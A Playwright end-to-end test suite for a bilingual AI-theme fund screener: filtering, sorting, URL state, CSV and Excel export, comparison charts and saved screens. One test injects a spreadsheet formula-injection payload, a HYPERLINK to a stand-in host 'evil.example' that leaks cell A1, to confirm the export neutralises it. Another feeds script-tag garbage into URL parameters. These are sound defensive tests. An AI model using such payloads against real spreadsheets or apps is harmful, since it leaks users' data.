import type { Page } from '@playwright/test';

import ExcelJS from 'exceljs';

import type { Fund } from '../../src/features/funds/funds-schema';
import { expect, test } from './fixtures';
import {
  breakDataset,
  chartFigure,
  dataset,
  datasetPattern,
  download,
  downloadWorkbook,
  must,
  pageUrl,
  parseCsv,
  sheetValues,
  urlParam,
  wakeGrid,
  type ChartElement,
} from './helpers';

const ExcelValueType = ExcelJS.ValueType;

// Expectations are computed from the dataset the app serves, never hard-coded.
const funds = dataset('funds').funds;
const hasReturn1m = (f: Fund): f is Fund & { return1m: number } => f.return1m !== null;
const above20 = funds.filter((f) => f.return3m !== null && f.return3m >= 20);
const best1m = must(
  funds.filter(hasReturn1m).sort((a, b) => b.return1m - a.return1m)[0],
  'fund with a 1-month return',
);
const fundCount = new Set(funds.map((f) => f.fundKey)).size;

type Lang = 'zh' | 'en';
const GRID = { zh: '人工智能主题基金', en: 'AI-theme funds' };

const grid = (page: Page, lang: Lang = 'zh') =>
  page.getByRole('region', { name: GRID[lang], exact: true });

/** One cell of the row displayed at `index` (after sort and filter); AG Grid has no better handle. */
const cell = (page: Page, index: number, colId: string, lang: Lang = 'zh') =>
  grid(page, lang).locator(`[role="row"][row-index="${index}"] [col-id="${colId}"]`);

/** A column's header cell (AG Grid's `col-id`: the header text changes with the language). */
const header = (page: Page, colId: string, lang: Lang = 'zh') =>
  grid(page, lang).locator(`[role="columnheader"][col-id="${colId}"]`);

/** The text of a column's header (without the sort order AG Grid adds next to it). */
const headerText = (page: Page, colId: string, lang: Lang = 'zh') =>
  header(page, colId, lang).locator('.ag-header-cell-text');

/** The row checkbox of a fund (AG Grid's row id is the fund code). */
const checkbox = (page: Page, rowId: string) =>
  grid(page).locator(`[role="row"][row-id="${rowId}"] input[type="checkbox"]`);

/** "N of M funds", announced as a status. */
const countLine = (page: Page) => page.getByRole('main').getByRole('status');

/** Scrolls the grid body so the last rows are rendered (AG Grid virtualises rows). */
async function scrollGrid(page: Page, to: 'top' | 'bottom', lang: Lang = 'zh') {
  await grid(page, lang)
    .getByRole('grid')
    .evaluate((el, top) => el.scrollTo({ top: top === 'bottom' ? el.scrollHeight : 0 }), to);
}

/** The grid, awake (the pointer over it) and showing its first row. */
async function waitForGrid(page: Page, lang: Lang = 'zh') {
  await wakeGrid(grid(page, lang));
  await expect(grid(page, lang).locator('[role="row"][row-index="0"]').first()).toBeVisible();
}

/** Sorts by a column as a user does: a click on its header's label. */
async function clickHeader(page: Page, colId: string) {
  await header(page, colId).locator('.ag-header-cell-label').click();
}

test.describe('funds (表3 screener)', () => {
  test('filters to a 3-month return of at least 20% and shows the right count (zh)', async ({
    page,
  }) => {
    await page.goto('/funds');
    await expect(page.getByRole('heading', { level: 1, name: '基金' })).toBeVisible();
    await waitForGrid(page);
    await expect(countLine(page)).toHaveText(`${funds.length} 只基金中的 ${funds.length} 只`);
    await page.getByLabel('近3月回报（%）下限').fill('20');
    await expect(countLine(page)).toContainText(`${funds.length} 只基金中的 ${above20.length} 只`);
    await expect.poll(() => urlParam(page, 'min3m')).toBe('20');
    // The grid holds exactly those funds (aria-rowcount counts the header row too).
    await expect(grid(page).getByRole('grid')).toHaveAttribute(
      'aria-rowcount',
      String(above20.length + 1),
    );
    // The preset is the same screen, and shows as pressed.
    await expect(page.getByRole('button', { name: '近3月回报 ≥ 20%' })).toHaveAttribute(
      'aria-pressed',
      'true',
    );
  });

  test('sorts by 1-month return, best first, blanks last in both directions; the URL reproduces the view in a fresh browser', async ({
    page,
    newPage,
  }) => {
    const preset = page.getByRole('button', { name: '近3月回报 ≥ 20%' });
    await page.goto('/funds');
    await waitForGrid(page);
    await preset.click();
    await expect(countLine(page)).toContainText(`中的 ${above20.length} 只`);
    await clickHeader(page, 'r1m');
    await expect.poll(() => urlParam(page, 'sort')).toBe('r1m.desc');
    expect(best1m.name.zh).toBe('万家人工智能A');
    await expect(cell(page, 0, 'name')).toHaveText('万家人工智能A');
    await expect(cell(page, 0, 'r1m')).toHaveText(/^▲ \+11\.29%$/);

    // Without the filter, the three blank 1-month returns come last, descending and ascending.
    await preset.click();
    await expect(countLine(page)).toContainText(`中的 ${funds.length} 只`);
    await scrollGrid(page, 'bottom');
    await expect(cell(page, funds.length - 1, 'r1m')).toHaveText('—');
    await expect(cell(page, funds.length - 3, 'r1m')).toHaveText('—');
    await clickHeader(page, 'r1m');
    await expect.poll(() => urlParam(page, 'sort')).toBe('r1m.asc');
    await scrollGrid(page, 'bottom');
    await expect(cell(page, funds.length - 1, 'r1m')).toHaveText('—');
    await expect(cell(page, funds.length - 3, 'r1m')).toHaveText('—');
    await scrollGrid(page, 'top');
    await expect(cell(page, 0, 'r1m')).toHaveText(/^▲ \+1\.67%$/);

    // Back to the filtered, descending view; then open its address in a new context.
    await preset.click();
    await expect(countLine(page)).toContainText(`中的 ${above20.length} 只`);
    await clickHeader(page, 'r1m');
    await expect.poll(() => urlParam(page, 'sort')).not.toBe('r1m.asc');
    await clickHeader(page, 'r1m');
    await expect.poll(() => urlParam(page, 'sort')).toBe('r1m.desc');
    await page.getByLabel('搜索代码或名称').fill('人工智能');
    await expect.poll(() => urlParam(page, 'q')).toBe('人工智能');
    const shared = page.url();

    const fresh = await newPage();
    await fresh.goto(shared);
    await waitForGrid(fresh);
    const expected = above20.filter((f) =>
      `${f.code}${f.name.zh}${f.name.en}`.includes('人工智能'),
    );
    await expect(countLine(fresh)).toHaveText(`${funds.length} 只基金中的 ${expected.length} 只`);
    await expect(cell(fresh, 0, 'name')).toHaveText('万家人工智能A');
    await expect(header(fresh, 'r1m')).toHaveAttribute('aria-sort', 'descending');
    await expect(fresh.getByLabel('近3月回报（%）下限')).toHaveValue('20');
    await expect(fresh.getByLabel('搜索代码或名称')).toHaveValue('人工智能');
  });

  test('exports exactly the rows and columns shown to CSV, headers in the current language', async ({
    page,
  }) => {
    await page.goto('/funds?min3m=20&sort=r1m.desc&hide=type,price');
    await waitForGrid(page);
    // The view from the address is on screen before the export.
    await expect(countLine(page)).toContainText(`中的 ${above20.length} 只`);
    await expect(header(page, 'r1m')).toHaveAttribute('aria-sort', 'descending');
    const { name, text } = await download(page, page.getByRole('button', { name: '导出 CSV' }));
    expect(name).toBe('ai-funds-2024-10-31.csv');
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      '基金代码',
      '基金简称',
      '份额',
      '类别',
      '规模（亿元）',
      '近1月回报（%）',
      '近3月回报（%）',
      '近6月回报（%）',
    ]);
    const body = rows.slice(1);
    expect(body).toHaveLength(above20.length);
    expect(body[0]).toEqual([
      '006281.OF',
      '万家人工智能A',
      'A',
      '主动管理',
      '16.63',
      '11.29',
      '23.11',
      '20.22',
    ]);
    expect(new Set(body.map((r) => r[0]))).toEqual(new Set(above20.map((f) => f.code)));
    // Numbers stay numbers; the † marker is for the screen only.
    expect(body.every((r) => !r[0]?.includes('†') && !r[5]?.startsWith("'"))).toBe(true);
  });

  test('exports the rows and columns shown to Excel: typed numbers, formats, frozen filtered header, sources', async ({
    page,
  }) => {
    await page.goto('/funds?min3m=20&sort=r1m.desc&hide=type,price');
    await waitForGrid(page);
    await expect(countLine(page)).toContainText(`中的 ${above20.length} 只`);
    await expect(header(page, 'r1m')).toHaveAttribute('aria-sort', 'descending');
    const { name, workbook } = await downloadWorkbook(
      page,
      page.getByRole('button', { name: '导出 Excel（.xlsx）' }),
    );
    expect(name).toBe('ai-funds-2024-10-31.xlsx');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['基金', '数据来源']);
    const sheet = must(workbook.getWorksheet('基金'), 'data sheet');
    const rows = sheetValues(sheet);
    expect(rows[0]).toEqual([
      '基金代码',
      '基金简称',
      '份额',
      '类别',
      '规模（亿元）',
      '近1月回报（%）',
      '近3月回报（%）',
      '近6月回报（%）',
    ]);
    expect(rows).toHaveLength(above20.length + 1);
    // Shown order (1-month return, best first), typed: numbers are numbers, as printed.
    expect(rows[1]).toEqual([
      '006281.OF',
      '万家人工智能A',
      'A',
      '主动管理',
      16.63,
      11.29,
      23.11,
      20.22,
    ]);
    expect(new Set(rows.slice(1).map((r) => r[0]))).toEqual(new Set(above20.map((f) => f.code)));
    const firstR1m = rows.slice(1).map((r) => r[5] as number);
    expect(firstR1m).toEqual([...firstR1m].sort((a, b) => b - a));
    // Number formats: 2 decimals for size, a signed percent for returns.
    expect(sheet.getCell('E2').numFmt).toBe('#,##0.00');
    expect(sheet.getCell('F2').numFmt).toBe('+0.00"%";-0.00"%";0.00"%"');
    expect(sheet.getCell('F2').type).toBe(ExcelValueType.Number);
    // Chinese defaults to red-up: a rise is red.
    expect(sheet.getCell('F2').font?.color?.argb).toBe('FFC62828');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:H${above20.length + 1}`);

    const sources = sheetValues(must(workbook.getWorksheet('数据来源'), 'sources sheet'));
    expect(sources).toContainEqual(['数据日期', '数据截至 2024年10月31日']);
    expect(sources).toContainEqual(['表格与章节', '表3 · 第2.3节']);
    expect(sources).toContainEqual(['导出行数', String(above20.length)]);
    const report = sources.find((r) => r[0] === '报告');
    expect(report?.[1]).toContain('美国大选尘埃落定，拥抱自主可控主线');
    // The data notes of the exported rows, each labelled with its row.
    const noted = above20.filter((f) => f.notes.length > 0);
    expect(noted.length).toBeGreaterThan(0);
    for (const fund of noted)
      for (const note of fund.notes)
        expect(sources).toContainEqual([`${fund.code} ${fund.name.zh}`, note.text.zh]);
  });

  test.describe(() => {
    test.use({ locale: 'en-US' });

    test('a hostile fund name is shown literally in the grid and neutralised in the CSV', async ({
      page,
    }) => {
      const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
      await page.route(datasetPattern('funds'), async (route) => {
        const response = await route.fetch();
        const json = (await response.json()) as { funds: Fund[] };
        const [first, second] = json.funds;
        if (!first || !second) throw new Error('two funds');
        first.name = { zh: hostile, en: hostile };
        first.return1m = -3.16;
        second.name = { zh: '@SUM(1+1)', en: '+1-2' };
        return route.fulfill({ response, json });
      });
      await page.goto(`/funds?lang=en&q=${encodeURIComponent('=HYPERLINK')}`);
      await waitForGrid(page, 'en');
      await expect(cell(page, 0, 'name', 'en')).toHaveText(hostile);
      await expect(cell(page, 0, 'r1m', 'en')).toHaveText(/^▼ -3\.16%$/);
      await expect(countLine(page)).toContainText(`1 of ${funds.length} funds`);
      const exportCsv = page.getByRole('button', { name: 'Export CSV' });
      const rows = parseCsv((await download(page, exportCsv)).text);
      expect(rows[0]?.[1]).toBe('Name');
      expect(rows[0]?.[7]).toBe('1M return (%)');
      expect(rows).toHaveLength(2);
      expect(rows[1]?.[1]).toBe(`'${hostile}`);
      // A negative number is data, not a formula: it stays numeric.
      expect(rows[1]?.[7]).toBe('-3.16');

      await page.getByLabel('Search code or name').fill('+1-2');
      await expect(countLine(page)).toContainText(`1 of ${funds.length} funds`);
      await expect.poll(() => urlParam(page, 'q')).toBe('+1-2');
      await expect(cell(page, 0, 'name', 'en')).toHaveText('+1-2');
      const second = parseCsv((await download(page, exportCsv)).text);
      expect(second[1]?.[1]).toBe("'+1-2");

      // The same in Excel: a string that stays a string (never a formula), the number a number,
      // a fall in the English default convention (green up) red.
      await page.getByLabel('Search code or name').fill('=HYPERLINK');
      await expect(cell(page, 0, 'name', 'en')).toHaveText(hostile);
      const { workbook } = await downloadWorkbook(
        page,
        page.getByRole('button', { name: 'Export Excel (.xlsx)' }),
      );
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Funds', 'Sources']);
      const sheet = must(workbook.getWorksheet('Funds'), 'data sheet');
      expect(sheet.getCell('A1').value).toBe('Code');
      expect(sheet.getCell('B2').type).toBe(ExcelValueType.String);
      expect(sheet.getCell('B2').value).toBe(`'${hostile}`);
      expect(sheet.getCell('B2').formula).toBeUndefined();
      expect(sheet.getCell('H1').value).toBe('1M return (%)');
      expect(sheet.getCell('H2').value).toBe(-3.16);
      expect(sheet.getCell('H2').font?.color?.argb).toBe('FFC62828');
    });

    test('works in English: headers, count, search across both languages, one row per fund, columns, reset', async ({
      page,
    }) => {
      await page.goto('/funds?lang=en');
      await expect(page.getByRole('heading', { level: 1, name: 'Funds' })).toBeVisible();
      await waitForGrid(page, 'en');
      await expect(countLine(page)).toHaveText(`${funds.length} of ${funds.length} funds`);
      await expect(headerText(page, 'size', 'en')).toHaveText('Size (CNY 100M)');
      // Chinese search text finds funds while English is shown.
      await page.getByLabel('Search code or name').fill('万家');
      await expect(countLine(page)).toContainText(`2 of ${funds.length} funds`);
      await expect(cell(page, 0, 'name', 'en')).toHaveText('Wanjia AI Fund A');

      // One row per fund: A and C side by side.
      // Controlled by the address: the box shows checked once the URL has changed.
      await page.getByLabel('One row per fund (merge A / C classes)').click();
      await expect.poll(() => urlParam(page, 'one')).toBe('1');
      await expect(page.getByLabel('One row per fund (merge A / C classes)')).toBeChecked();
      await expect(countLine(page)).toContainText(`1 of ${fundCount} funds`);
      await expect(cell(page, 0, 'name', 'en')).toHaveText('Wanjia AI Fund');
      await expect(cell(page, 0, 'code', 'en')).toHaveText('006281.OF / 014162.OF');
      await expect(cell(page, 0, 'r1m', 'en')).toHaveText('▲ +11.29%');
      await expect(cell(page, 0, 'r1mC', 'en')).toHaveText('▲ +11.22%');

      // Column chooser: hide the price columns; the address keeps it. The grid removes the
      // column a few milliseconds after the click: wait for what the user sees.
      await page.getByText('Columns (10/10)').click();
      await page.getByRole('checkbox', { name: 'Close on October 31 (CNY)' }).click();
      await expect.poll(() => urlParam(page, 'hide')).toBe('price');
      await expect(header(page, 'price', 'en')).toHaveCount(0);

      // Reset: everything back to the default view, the language stays.
      await page.getByRole('button', { name: 'Reset view' }).click();
      await expect(countLine(page)).toContainText(`${funds.length} of ${funds.length} funds`);
      await expect.poll(() => pageUrl(page).search).toBe('?lang=en');
      await expect(page.getByLabel('Search code or name')).toHaveValue('');
      await expect(header(page, 'price', 'en')).toHaveCount(1);
    });
  });

  test('selecting two funds shows the comparison chart; the selection is in the URL', async ({
    page,
  }) => {
    await page.goto('/funds');
    await waitForGrid(page);
    await expect(page.getByText('在表格中勾选基金')).toBeVisible();
    for (const code of ['006281.OF', '159819.OF']) await checkbox(page, code).click();
    await expect.poll(() => urlParam(page, 'sel')).toBe('006281.OF,159819.OF');
    const figure = chartFigure(page, '所选基金回报对比');
    await expect(figure).toBeVisible();
    await expect
      .poll(() =>
        figure.evaluate(
          (el: ChartElement) =>
            (el.echartsInstance?.getOption().yAxis as { data: string[] }[] | undefined)?.[0]?.data,
        ),
      )
      .toEqual(['万家人工智能A', '易方达中证人工智能 ETF']);
    const wanjia = must(
      funds.find((f) => f.code === '006281.OF'),
      '006281.OF',
    );
    await expect
      .poll(() =>
        figure.evaluate((el: ChartElement) =>
          (el.echartsInstance?.getOption().series as { data: { value: number }[] }[]).map(
            (s) => s.data[0]?.value,
          ),
        ),
      )
      .toEqual([wanjia.return1m, wanjia.return3m, wanjia.return6m]);
    await expect(page.getByText('已选 2 / 10 只用于对比')).toBeVisible();

    // Order by 6-month return: the chart and the URL follow.
    await page.getByLabel('排序依据').selectOption('r6m');
    await expect.poll(() => urlParam(page, 'csort')).toBe('r6m');

    // Reload: the selection comes back from the address and the boxes are ticked.
    await page.reload();
    await waitForGrid(page);
    await expect(figure).toBeVisible();
    await expect(checkbox(page, '159819.OF')).toBeChecked();
  });

  test('refuses an 11th selection with a visible message', async ({ page }) => {
    const ten = funds.slice(0, 10).map((f) => f.code);
    const eleventh = must(funds[10], 'eleventh fund');
    await page.goto(`/funds?sel=${ten.join(',')}`);
    await waitForGrid(page);
    await expect(checkbox(page, must(ten[9], 'tenth fund'))).toBeChecked();
    await checkbox(page, eleventh.code).click();
    await expect(
      page
        .getByRole('alert')
        .getByText(`最多只能选择 10 只基金进行对比，未选中“${eleventh.name.zh}”`),
    ).toBeVisible();
    // Once the refusal shows, the selection is final: unchanged.
    await expect.poll(() => urlParam(page, 'sel')).toBe(ten.join(','));
    await expect(checkbox(page, eleventh.code)).not.toBeChecked();
  });

  test('one row per fund: sorts by a C-class column, selects both classes, exports one header row', async ({
    page,
  }) => {
    await page.goto('/funds?one=1&sort=r1mC.desc');
    await waitForGrid(page);
    await expect(countLine(page)).toHaveText(
      new RegExp(`^${fundCount} 只基金中的 ${fundCount} 只`),
    );
    // The best C class by 1-month return belongs to 万家 (014162.OF).
    const bestC = must(
      funds
        .filter((f) => f.shareClass === 'C')
        .filter(hasReturn1m)
        .sort((a, b) => b.return1m - a.return1m)[0],
      'C class with a 1-month return',
    );
    await expect(cell(page, 0, 'r1mC')).toHaveText(`▲ +${bestC.return1m.toFixed(2)}%`);
    await expect(cell(page, 0, 'name')).toHaveText('万家人工智能');
    await checkbox(page, 'fund:wanjia-ai').first().click();
    await expect.poll(() => urlParam(page, 'sel')).toBe('006281.OF,014162.OF');
    await expect(chartFigure(page, '所选基金回报对比')).toBeVisible();

    const { text } = await download(page, page.getByRole('button', { name: '导出 CSV' }));
    const rows = parseCsv(text);
    expect(rows).toHaveLength(fundCount + 1);
    // The fund's name is pinned first in this mode; the CSV keeps the order shown.
    expect(rows[0]?.slice(0, 2)).toEqual(['基金简称', '基金代码']);
    expect(rows[0]).toContain('近1月回报（%）（C 类）');
    expect(rows[1]?.slice(0, 2)).toEqual(['万家人工智能', '006281.OF / 014162.OF']);
  });

  test('a failed funds dataset shows its error in its own panel and the retry recovers', async ({
    page,
    browserErrors,
  }) => {
    browserErrors.allow(/status of 500/);
    const fault = await breakDataset(page, 'funds', 500);
    await page.goto('/funds');
    await expect(page.getByRole('heading', { level: 1, name: '基金' })).toBeVisible();
    await expect(page.getByRole('alert').filter({ hasText: 'HTTP 500' }).first()).toBeVisible();
    fault.restore();
    await page.getByRole('button', { name: '重试' }).first().click();
    await waitForGrid(page);
  });

  test('switching language in place keeps the view, renames headers and re-sorts names', async ({
    page,
  }) => {
    await page.goto('/funds?min3m=20&sort=name.asc');
    await waitForGrid(page);
    // The grid's accessible name changes with the language: find the header on the page.
    const nameHeader = page.locator('[role="columnheader"][col-id="name"] .ag-header-cell-text');
    await expect(nameHeader).toHaveText('基金简称');
    const collate = (lang: Lang) =>
      new Intl.Collator(lang === 'zh' ? 'zh-CN' : 'en-US', { numeric: true });
    const first = (lang: Lang) =>
      must(
        [...above20].sort((a, b) => collate(lang).compare(a.name[lang], b.name[lang]))[0],
        'fund above 20%',
      ).name[lang];
    await expect(cell(page, 0, 'name')).toHaveText(first('zh'));
    await page.getByRole('button', { name: 'Switch to English' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Funds' })).toBeVisible();
    await expect(countLine(page)).toContainText(`${above20.length} of ${funds.length} funds`);
    await expect(nameHeader).toHaveText('Name');
    await expect(cell(page, 0, 'name', 'en')).toHaveText(first('en'));
    await expect(page.getByLabel('Min 3M return (%)')).toHaveValue('20');
    await expect.poll(() => urlParam(page, 'min3m')).toBe('20');
    await expect.poll(() => urlParam(page, 'sort')).toBe('name.asc');
  });

  test('the first screen is a plain table of the same view; the grid takes its place on the first intent', async ({
    page,
  }) => {
    // 1M return, best first, blanks last; the best fund ticked for comparison.
    const order = funds
      .filter(hasReturn1m)
      .sort((a, b) => b.return1m - a.return1m)
      .slice(0, 3);
    const ticked = must(order[1], 'second-best fund by 1M return');
    await page.goto(`/funds?sort=r1m.desc&sel=${ticked.code}`);
    // Before any intent: one plain table (no grid) with the view the address describes.
    const table = grid(page).getByRole('table', { name: GRID.zh });
    await expect(table).toBeVisible();
    await expect(grid(page).getByRole('grid')).toHaveCount(0);
    await expect(table).toHaveAttribute('aria-rowcount', String(funds.length + 1));
    await expect(table.getByRole('columnheader', { name: /近1月/ })).toHaveAttribute(
      'aria-sort',
      'descending',
    );
    const rows = table.getByRole('row');
    for (const [index, fund] of order.entries()) {
      await expect(rows.nth(index + 1)).toContainText(fund.name.zh);
      await expect(rows.nth(index + 1).getByRole('checkbox')).toBeChecked({
        checked: fund === ticked,
      });
    }
    // The pointer over it: the grid, same order, same tick, and the table is gone (one table).
    await waitForGrid(page);
    await expect(grid(page).getByRole('table')).toHaveCount(0);
    for (const [index, fund] of order.entries()) {
      await expect(cell(page, index, 'name')).toHaveText(fund.name.zh);
    }
    await expect(checkbox(page, ticked.code)).toBeChecked();
    expect(urlParam(page, 'sort')).toBe('r1m.desc');
    expect(urlParam(page, 'sel')).toBe(ticked.code);
  });

  test('data notes are marked in the grid and listed under it', async ({ page }) => {
    await page.goto('/funds?q=159819');
    await waitForGrid(page);
    await expect(cell(page, 0, 'code')).toHaveText('159819.OF †');
    const note = must(funds.find((f) => f.code === '159819.OF')?.notes[0], 'note on 159819.OF').text
      .zh;
    await expect(page.getByRole('note').getByText(note)).toBeVisible();
  });

  test('garbage in every parameter falls back to the default view without errors', async ({
    page,
  }) => {
    await page.goto(
      '/funds?min3m=abc&max1m=Infinity&class=Z&kind=%3Cscript%3E&sort=r1m.sideways&hide=code&sel=%3Cimg%3E&one=maybe&csort=x&top=9',
    );
    await waitForGrid(page);
    await expect(countLine(page)).toHaveText(`${funds.length} 只基金中的 ${funds.length} 只`);
    await expect(cell(page, 0, 'code')).toHaveText(must(funds[0], 'first fund').code);
  });

  test('saves the screen by name, and after a reload applying it sets the address and the view', async ({
    page,
  }) => {
    await page.goto('/funds?min3m=20&sort=r1m.desc&hide=type,price&one=1');
    await waitForGrid(page);
    await page.getByLabel('筛选名称').fill('近3月强势');
    await page.getByRole('button', { name: '保存筛选' }).click();
    await expect(page.getByText('已保存筛选“近3月强势”。')).toBeVisible();

    await page.goto('/funds');
    await waitForGrid(page);
    await expect(countLine(page)).toHaveText(`${funds.length} 只基金中的 ${funds.length} 只`);
    await page.getByText('保存的筛选（1）').click();
    await page.getByRole('button', { name: '应用筛选“近3月强势”' }).click();
    await expect.poll(() => urlParam(page, 'min3m')).toBe('20');
    await expect.poll(() => urlParam(page, 'sort')).toBe('r1m.desc');
    await expect.poll(() => urlParam(page, 'hide')).toBe('type,price');
    await expect.poll(() => urlParam(page, 'one')).toBe('1');
    await expect(page.getByLabel('近3月回报（%）下限')).toHaveValue('20');
    await expect(header(page, 'r1m')).toHaveAttribute('aria-sort', 'descending');
    await expect(page.getByRole('list', { name: '此页面保存的筛选' })).toContainText(
      '近3月强势 · 当前视图',
    );

    // Renamed and deleted from the same list.
    await page.getByRole('button', { name: '重命名筛选“近3月强势”' }).click();
    await page.getByLabel('新名称').fill('强势基金');
    await page.getByRole('button', { name: '保存名称' }).click();
    await expect(page.getByRole('button', { name: '应用筛选“强势基金”' })).toBeVisible();
    await page.getByRole('button', { name: '删除筛选“强势基金”' }).click();
    await expect(page.getByText('保存的筛选（0）')).toBeVisible();
  });
});
